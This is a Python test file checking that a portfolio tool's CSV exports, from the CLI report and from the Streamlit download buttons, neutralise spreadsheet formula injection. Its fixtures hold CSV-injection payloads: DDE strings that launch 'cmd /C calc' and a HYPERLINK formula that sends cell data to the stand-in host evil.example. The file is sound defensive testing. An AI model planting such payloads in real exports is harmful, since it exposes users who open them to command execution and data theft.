"""CSV exports cannot be turned into a weapon: formula-looking text reaches a spreadsheet as text.

A GitHub issue titled ``@SUM(1+1)*cmd|' /C calc'!A0`` (the recorded ivy exchange, served by a real
local server) and a ledger note ``=HYPERLINK(...)`` (a real outcomes_file sync) go through the real
sync into a database, then out through ``mlportfolio report ... --format csv`` (a subprocess) and
through the App page's download buttons (AppTest; the bytes each button hands to Streamlit are
read back). Every such cell starts with ``'``; negative amounts stay numbers.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from portfolio import config, safe, sync
from tests.connectors.test_github_issues import GitHub
from tests.dashboard.test_pages import PAGES

ROOT = Path(__file__).resolve().parents[2]
TODAY = "2015-08-01"  # the recorded ivy issues #3 and #4 were closed in July 2015
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
NOTE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")'
NAME = "-2+3+cmd|' /C calc'!A0"
TEAM = "+team"


@pytest.fixture
def poisoned(tmp_path: Path, db_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A portfolio.toml + database holding a formula in an issue title, a ledger note, an app name and a team."""
    gh = GitHub()
    issue = next(i for i in gh.pages[0]["body"] if i["number"] == 3)
    issue["title"] = TITLE
    ledger = tmp_path / "ledger.csv"
    ledger.write_text(
        "app_id,month,kind,amount,currency,attribution,evidence,low,high,note\n"
        f'ivy-calculator,2015-07,cost_avoidance,-250.50,USD,1,estimate,,,"{NOTE.replace(chr(34), chr(34) * 2)}"\n',
        encoding="utf-8",
    )
    monkeypatch.setenv("GH_FIXTURE_TOKEN", "ghp_fixtureTOKEN0123456789abcdef")
    with gh.server:
        toml = tmp_path / "portfolio.toml"
        toml.write_text(
            f"""
database_url = "{db_url}"

[[apps]]
id = "ivy-calculator"
name = {NAME!r}
team = "{TEAM}"
launched = 2015-01-01

[connectors.gh]
type = "github_issues"
repos = ["robpike/ivy"]
api_url = "{gh.server.url}"
token_env = "GH_FIXTURE_TOKEN"
repo_apps = {{ "robpike/ivy" = "ivy-calculator" }}
max_wait_seconds = 5
rate_limit_margin_seconds = 0.1

[connectors.ledger]
type = "outcomes_file"
path = "{ledger}"
""",
            encoding="utf-8",
        )
        outcome = sync.sync(config.load(toml))
        assert outcome.ok, [r.error for r in outcome.runs]
    yield toml


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_cli_csv_report_neutralises_formulas_and_keeps_negative_numbers(poisoned: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PORTFOLIO_")}
    env["PYTHONPATH"] = str(ROOT)
    out = subprocess.run(
        [sys.executable, "-m", "portfolio.cli", "--config", str(poisoned), "report", "pnl", "--format", "csv",
         "--from", "2015-07", "--to", "2015-07", "--today", TODAY],
        capture_output=True, text=True, env=env, timeout=120, check=False,
    )  # fmt: skip
    assert out.returncode == 0, out.stderr
    rows = [r for r in _rows(out.stdout) if r["app_id"] == "ivy-calculator"]
    assert len(rows) == 1
    row = rows[0]
    assert row["team"] == "'" + TEAM
    if "name" in row:
        assert row["name"] == "'" + NAME
    assert row["value"] == "-250.50"  # a negative number stays a number (exact, as the ledger says)
    assert not [c for r in _rows(out.stdout) for c in r.values() if c and c[0] in "=+@\t\r" ]


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> dict[str, bytes]:
    """The bytes every download button hands to Streamlit's media storage, by file name (a spy: the
    real storage still stores them)."""
    seen: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def spy(self, path_or_data, mimetype, kind, filename=None):  # type: ignore[no-untyped-def]
        if filename and isinstance(path_or_data, bytes):
            seen[filename] = path_or_data
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", spy)
    return seen


def test_app_page_downloads_neutralise_formulas(poisoned: Path, downloads: dict[str, bytes], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PORTFOLIO_CONFIG", str(poisoned))
    monkeypatch.setenv("PORTFOLIO_TODAY", TODAY)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.query_params["app"] = "ivy-calculator"
    at.switch_page(PAGES["app"]).run()
    assert not at.exception, [e.value for e in at.exception]
    tickets = pd.read_csv(io.BytesIO(downloads["ivy-calculator-tickets.csv"]), dtype=str)
    assert "'" + TITLE in set(tickets["title"])
    outcomes = pd.read_csv(io.BytesIO(downloads["ivy-calculator-outcomes.csv"]), dtype=str)
    assert list(outcomes["note"]) == ["'" + NOTE]
    assert list(outcomes["amount"]) == ["-250.50"]  # numbers are not quoted
    for name, data in downloads.items():
        if name.endswith(".csv"):
            cells = [c for r in csv.reader(io.StringIO(data.decode())) for c in r]
            assert not [c for c in cells if c and c[0] in "=+@\t\r"], name
            assert not [c for c in cells if c.startswith("-") and not safe._PLAIN_NUMBER.match(c)], name


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        pytest.param("=1+1", "'=1+1", id="equals"),
        pytest.param("+1+1", "'+1+1", id="plus-formula"),
        pytest.param("-1+cmd", "'-1+cmd", id="minus-formula"),
        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
        pytest.param("\t=1", "'\t=1", id="tab"),
        pytest.param("\r=1", "'\r=1", id="carriage-return"),
        pytest.param("-250.50", "-250.50", id="negative-number-as-text-stays"),
        pytest.param("+3", "+3", id="signed-number-as-text-stays"),
        pytest.param("-1e6", "-1e6", id="exponent-number-stays"),
        pytest.param("a=1", "a=1", id="not-at-start"),
        pytest.param(-250.5, -250.5, id="float"),
        pytest.param(None, None, id="none"),
    ],
)
def test_csv_cell(value: object, expected: object) -> None:
    assert safe.csv_cell(value) == expected


def test_csv_frame_leaves_numeric_columns_alone() -> None:
    frame = pd.DataFrame({"n": [-1.5, 2.0], "t": ["=x", "ok"], "d": pd.to_datetime(["2026-01-01", "2026-02-01"])})
    out = safe.csv_frame(frame)
    assert out["n"].dtype == frame["n"].dtype and list(out["n"]) == [-1.5, 2.0]
    assert list(out["t"]) == ["'=x", "ok"]
    assert list(frame["t"]) == ["=x", "ok"]  # the input is not changed
